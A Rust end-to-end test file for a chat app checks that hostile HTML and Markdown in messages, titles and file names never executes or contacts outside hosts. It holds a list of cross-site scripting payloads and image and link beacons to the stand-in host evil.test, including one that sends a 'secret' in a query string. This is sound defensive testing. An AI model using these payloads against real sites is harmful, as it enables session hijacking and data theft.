//! Hostile texts as everything that a page shows: one's own words, a model's, names of conversations, documents and files.
//! Nothing may run, and nothing may be asked of anybody but the server.

use crate::model::Model;
use crate::rig::{Page, start_with};

/// Ways to run something. `RUN` is what they try to run.
const MARKUP: [&str; 34] = [
    "<script>RUN</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'//",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<a href='javascript:RUN'>x</a>",
    "<a href='data:text/html,<script>RUN</script>'>x</a>",
    "<form action='javascript:RUN'><button>x</button></form>",
    "<button formaction='javascript:RUN'>x</button>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<link rel=prefetch href='http://evil.test/x'>",
    "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/x) }</style>",
    "<p style=\"background: url('http://evil.test/x')\">x</p>",
    "<marquee onstart=RUN>x</marquee>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<!--<img src='--><img src=x onerror=RUN>'-->",
    "<div id=app><div id=message>x</div></div>",
    "&lt;img src=x onerror=RUN&gt;",
    "\u{0}<scr\u{0}ipt>RUN</scr\u{0}ipt>",
];

/// Ways to do the same in Markdown, and to call home.
const MARKDOWN: [&str; 32] = [
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](java\tscript:RUN)",
    "[x](&#106;avascript:RUN)",
    "[x](javascript&colon;RUN)",
    "[x](vbscript:RUN)",
    "[x](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=)",
    "[x](<javascript:RUN>)",
    "<javascript:RUN>",
    "[x]: javascript:RUN\n\n[x]",
    "![x](http://evil.test/x.png)",
    "![x](//evil.test/x.png)",
    "![x](http://evil.test/?q=secret)",
    "![x][y]\n\n[y]: http://evil.test/y.png",
    "![](http://evil.test/empty.png)",
    "[![x](http://evil.test/in.png)](http://evil.test/)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9UlVOPg==)",
    "![x](x\"onerror=\"RUN)",
    "[x](http://evil.test/\"onmouseover=\"RUN)",
    "[x](http://evil.test/ \"title\"onclick=RUN\"\")",
    "`<img src=x onerror=RUN>`",
    "```html\n<script>RUN</script>\n```",
    "```\"><img src=x onerror=RUN>\nx\n```",
    "| <img src=x onerror=RUN> |\n|---|\n| <script>RUN</script> |",
    "> <img src=x onerror=RUN>",
    "- [ ] <img src=x onerror=RUN>",
    "# <svg onload=RUN>",
    "[^1]\n\n[^1]: <img src=x onerror=RUN>",
    "[^\"><img src=x onerror=RUN>]\n\n[^\"><img src=x onerror=RUN>]: x",
    "$<img src=x onerror=RUN>$",
    "<b>bold</b> **<i onclick=RUN>x</i>**",
    "<http://evil.test/\"onclick=RUN>",
];

/// Each of these is said in three manners: as it is, in a list, and in a quotation.
fn corpus() -> Vec<String> {
    let texts: Vec<String> = MARKUP
        .iter()
        .chain(&MARKDOWN)
        .map(|text| text.replace("RUN", "(window.ran=1)"))
        .collect();
    let listed = texts
        .iter()
        .map(|text| format!("- one\n- {}", text.replace('\n', "\n  ")));
    let quoted = texts.iter().map(|text| format!("> {}", text.replace('\n', "\n> ")));
    texts.iter().cloned().chain(listed).chain(quoted).collect()
}

#[test]
fn nothing_runs_and_nothing_calls_home() {
    let model = Model::start();
    let Some((server, browser)) = start_with(Some(&model)) else {
        return;
    };
    let texts = corpus();
    assert!(texts.len() >= 100);
    let page = Page::open(&browser, &server.origin);
    page.sign_up();
    say_all(&page, &texts);
    name_all(&page);
    for place in ["", "library"] {
        page.visit(&server.origin, place);
        page.wait("the list", "document.querySelectorAll('.row').length > 30");
        assert_calm(&page);
    }
    page.wait("documents", "document.querySelectorAll('.rows li').length > 30");
    search(&page);
    assert_calm(&page);
    page.assert_quiet(&server.origin, "/html.js");
}

/// As one's own words and, a mirror being the model, as a model's: while they come, and once more as they are stored.
fn say_all(page: &Page, texts: &[String]) {
    for part in texts.chunks(20) {
        page.send(&part.join("\n\n"));
        page.wait_for_end();
        assert_calm(page);
    }
    page.reload();
    let count = texts.len().div_ceil(20) * 2;
    page.wait(
        "all of it",
        &format!("document.querySelectorAll('.message').length === {count}"),
    );
    // Everything that could be pressed is.
    page.eval("([...document.querySelectorAll('.block *')].filter((node) => !node.closest('a[href]')).forEach((node) => \
        ['click', 'mouseover', 'focus', 'toggle'].forEach((type) => node.dispatchEvent(new Event(type, { bubbles: true })))), 1)");
    assert_calm(page);
    let unsafe_links = "[...document.querySelectorAll('.block a')].map((link) => link.protocol) \
        .filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))";
    assert_eq!(page.eval(unsafe_links), serde_json::json!([]), "links that are none");
    page.shot("hostile-light");
}

/// As names of conversations, documents and files.
fn name_all(page: &Page) {
    let names: Vec<String> = MARKUP
        .iter()
        .map(|text| text.replace("RUN", "(window.ran=1)").replace('\0', ""))
        .collect();
    let names = serde_json::to_string(&names).unwrap();
    page.eval(&format!(
        "((async () => {{ const post = (path, body) => fetch(path, {{ method: 'POST', body: JSON.stringify(body) }}); \
         for (const title of {names}) {{ await post('/chats', {{ title }}); await post('/documents', {{ title, content: title }}); \
         const form = new FormData(); form.append('file', new File(['x'], title)); await fetch('/upload/', {{ method: 'POST', body: form }}); }} \
         window.isNamed = true; }})(), 1)"
    ));
    page.wait("the names", "window.isNamed === true");
}

fn search(page: &Page) {
    page.press_button("document.querySelector('button.way')");
    page.fill(".palette .search", "onerror");
    page.wait(
        "what was found",
        "document.querySelectorAll('.palette [role=option] .option-about').length > 0",
    );
}

fn assert_calm(page: &Page) {
    assert_eq!(page.eval("window.ran === undefined"), true, "something ran");
    let foreign = "document.querySelectorAll('.block :is(script, img, iframe, object, embed, style, link, meta, base, form, svg svg, [style], [onerror], [onload])').length";
    assert_eq!(page.eval(foreign), 0, "an element that should not be");
}
